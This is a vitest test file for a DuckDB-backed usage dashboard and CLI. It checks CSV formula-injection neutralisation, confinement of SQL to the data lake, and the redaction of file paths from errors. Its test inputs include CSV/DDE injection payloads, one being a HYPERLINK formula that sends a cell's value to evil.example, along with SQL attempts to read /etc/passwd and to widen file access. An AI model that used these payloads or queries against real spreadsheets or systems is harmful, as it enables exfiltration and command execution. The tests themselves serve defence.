import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DashboardApi } from '../../functions/dashboard/api.ts';
import type { NamedQueries } from '../../functions/dashboard/named-queries.ts';
import { csvCell, toCsv } from '../../functions/sql/csv.ts';
import { displayValue, valueKind } from '../../functions/sql/display-values.ts';
import { type DuckDbEngine, openDuckDbEngine } from '../../functions/sql/duckdb-engine.ts';
import type { QueryColumn } from '../../functions/sql/engine.ts';
import { publicMessage, SqlEngineError } from '../../functions/sql/errors.ts';
import { runCli } from '../../scripts/cli.ts';
import type { CommandIO } from '../../scripts/cli-kit.ts';
import { buildTestLake, type TestLake } from '../helpers/lake.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\tTAB first',
  '\rCR first',
];

describe('CSV cells are safe where they land (OWASP CSV injection)', () => {
  it('neutralises every text cell that starts with = + - @ TAB or CR, and quotes it', () => {
    for (const name of HOSTILE) {
      const cell = csvCell(name);
      expect(cell.startsWith('"\''), JSON.stringify(name)).toBe(true);
      // Read back as a CSV field: the value is the name behind one apostrophe.
      expect(cell.slice(1, -1).replaceAll('""', '"')).toBe(`'${name}`);
    }
  });

  it('leaves numbers, booleans, NULL and ordinary text as they are', () => {
    expect([csvCell(-1.5), csvCell(0), csvCell(true), csvCell(null), csvCell('ana')]).toEqual([
      '-1.5',
      '0',
      'true',
      '',
      'ana',
    ]);
    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"');
  });

  it('writes a header and rows, hostile names neutralised, raw numbers kept', () => {
    const csv = toCsv(
      [{ name: 'user_name' }, { name: 'cost_usd' }],
      [
        { user_name: HOSTILE[0]!, cost_usd: -0.25 },
        { user_name: 'bo', cost_usd: 1234.5 },
      ],
    );
    expect(csv.split('\n')).toEqual([
      'user_name,cost_usd',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-0.25`,
      'bo,1234.5',
    ]);
  });
});

describe('query output with hostile names', () => {
  let lake: TestLake;
  beforeAll(async () => {
    lake = await buildTestLake({
      seed: 3,
      teamSize: 2,
      days: 2,
      endMs: Date.UTC(2026, 0, 3),
      extraRows: HOSTILE.map((name, i) => ({
        event_id: `hostile-${i}`,
        event_time: Date.UTC(2026, 0, 2, 12, i),
        event_name: 'api_request',
        user_email: `${name}@example.com`,
        model: 'claude-opus-4-5-20251101',
        cost_usd: 1,
      })),
    });
  });
  afterAll(() => lake?.dispose());

  async function cli(args: string[]) {
    const out: string[] = [];
    const err: string[] = [];
    const io: CommandIO = { out: (t) => out.push(t), err: (t) => err.push(t), cwd: '/', env: {} };
    const code = await runCli(['query', ...args, '--lake', lake.dir], io);
    return { code, out: out.join('\n'), err: err.join('\n') };
  }

  it('csv neutralises them, json keeps them raw', async () => {
    const window = ['--from', '2026-01-01', '--to', '2026-01-03'];
    const csv = await cli(['per_user_activity', ...window, '--format', 'csv']);
    expect(csv.code).toBe(0);
    const json = await cli(['per_user_activity', ...window, '--format', 'json']);
    const names = (JSON.parse(json.out) as { user_name: string }[]).map((r) => r.user_name);
    // The person is the e-mail's local part: '@SUM…@example.com' has none, the others are whole.
    for (const local of HOSTILE.map((n) => n.split('@')[0]!).filter(Boolean)) {
      expect(names).toContain(local);
      expect(csv.out).toContain(`"'${local.replaceAll('"', '""')}"`);
    }
    const lines = csv.out.split('\n').slice(1);
    for (const line of lines) expect(line, line).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('--sql reads the lake and nothing else on the machine', async () => {
    const inLake = await cli([
      '--sql',
      `SELECT count(*) AS n FROM read_parquet('${join(lake.dir, 'events', '**', '*.parquet')}')`,
      '--format',
      'json',
    ]);
    expect(inLake.code, inLake.err).toBe(0);
    expect(JSON.parse(inLake.out)).toEqual([{ n: lake.rows.length }]);
    for (const sql of [
      "SELECT * FROM read_text('/etc/hostname')",
      "SELECT * FROM read_csv_auto('/etc/passwd')",
      "SELECT * FROM glob('/etc/*')",
      `SELECT * FROM read_text('${join(lake.dir, '..', 'outside.txt')}')`,
      "SELECT * FROM read_text('http://127.0.0.1:1/x')",
    ]) {
      const refused = await cli(['--sql', sql]);
      expect(refused.code, sql).toBe(1);
      expect(refused.err, sql).toMatch(/Permission Error|disabled by configuration/);
    }
    for (const sql of [
      'SET enable_external_access = true',
      "SELECT 1; SET allowed_directories = ['/']",
      "ATTACH '/tmp/x.db' AS x",
      'INSTALL httpfs',
    ]) {
      const refused = await cli(['--sql', sql]);
      expect(refused.code, sql).toBe(2);
      expect(refused.err, sql).toMatch(/only a single read-only query is allowed/);
    }
  });
});

describe('the DuckDB engine itself is confined to the lake', () => {
  let lake: TestLake;
  let engine: DuckDbEngine;
  beforeAll(async () => {
    lake = await buildTestLake({ seed: 1, teamSize: 1, days: 1, endMs: Date.UTC(2026, 0, 2) });
    await mkdir(join(lake.dir, 'notes'), { recursive: true });
    await writeFile(join(lake.dir, 'notes', 'x.txt'), 'inside');
    engine = await openDuckDbEngine({ lake: lake.dir, threads: 1 });
  });
  afterAll(async () => {
    await engine?.close();
    await lake?.dispose();
  });

  it('refuses files outside the lake even without the --sql guard, and cannot be widened', async () => {
    await expect(engine.run("SELECT * FROM read_text('/etc/hostname')")).rejects.toThrow(/Permission Error/);
    await expect(engine.run('SET enable_external_access = true')).rejects.toThrow(
      /Cannot enable external access/,
    );
    await expect(engine.run("SET allowed_directories = ['/']")).rejects.toThrow(/allowed_directories/);
    const inside = await engine.run(`SELECT content FROM read_text('${join(lake.dir, 'notes', 'x.txt')}')`);
    expect(inside.rows).toEqual([{ content: 'inside' }]);
  });
});

describe('dashboard API errors name no file paths', () => {
  it('keeps the reason, drops the paths, and logs the whole message', async () => {
    const logged: string[] = [];
    const failing: NamedQueries = {
      engine: 'local',
      names: ['team_totals'],
      filtersOf: () => [],
      run: () =>
        Promise.reject(
          new SqlEngineError(
            'DuckDB: IO Error: No files found that match the pattern "/home/ana/work/lake/events/dt=2026-01-01/x.parquet" (C:\\Users\\ana\\lake)',
            'failed',
          ),
        ),
    };
    const api = new DashboardApi({ queries: failing, log: (l) => logged.push(l) });
    const answer = await api.handle('/api/queries/team_totals', new URLSearchParams());
    expect(answer.status).toBe(500);
    const error = (answer.body as { error: string }).error;
    expect(error).toBe(
      'query "team_totals" failed: DuckDB: IO Error: No files found that match the pattern "<path>" (<path>)',
    );
    expect(logged.join('\n')).toContain('/home/ana/work/lake');
    expect(publicMessage(new Error('s3://bucket/x/y failed at /opt/app/index.js:3'))).not.toMatch(
      /\/opt|\/x\//,
    );
  });
});

describe('query tables show numbers as the dashboard does', () => {
  it('formats every kind exactly like functions/dashboard/public/format.js', async () => {
    const page = (await import('../../functions/dashboard/public/format.js' as string)) as {
      valueKind: (c: QueryColumn) => string;
      formatValue: (v: unknown, kind: string) => string;
    };
    const cases: [QueryColumn, unknown][] = [
      [{ name: 'cost_usd', type: 'double' }, 1234.567],
      [{ name: 'cost_per_message', type: 'double' }, 0.123456],
      [{ name: 'cache_hit_pct', type: 'double' }, 97.349],
      [{ name: 'success_rate', type: 'double' }, 0.9734],
      [{ name: 'change_pct', type: 'double' }, -12.34],
      [{ name: 'change_pct', type: 'double' }, null],
      [{ name: 'requests', type: 'bigint' }, 1234567],
      [{ name: 'avg_ttft_ms', type: 'double' }, 812.456],
      [{ name: 'last_seen', type: 'timestamp' }, '2026-01-05T10:00:00.000Z'],
      [{ name: 'user_name', type: 'varchar' }, 'ana'],
    ];
    for (const [column, value] of cases) {
      const kind = valueKind(column);
      expect(kind, column.name).toBe(page.valueKind(column));
      expect(displayValue(value as never, kind), column.name).toBe(page.formatValue(value, kind));
    }
    expect(displayValue(1234.567, 'money')).toBe('$1,234.57');
    expect(displayValue(0.9734, 'fraction')).toBe('97.3 %');
  });
});
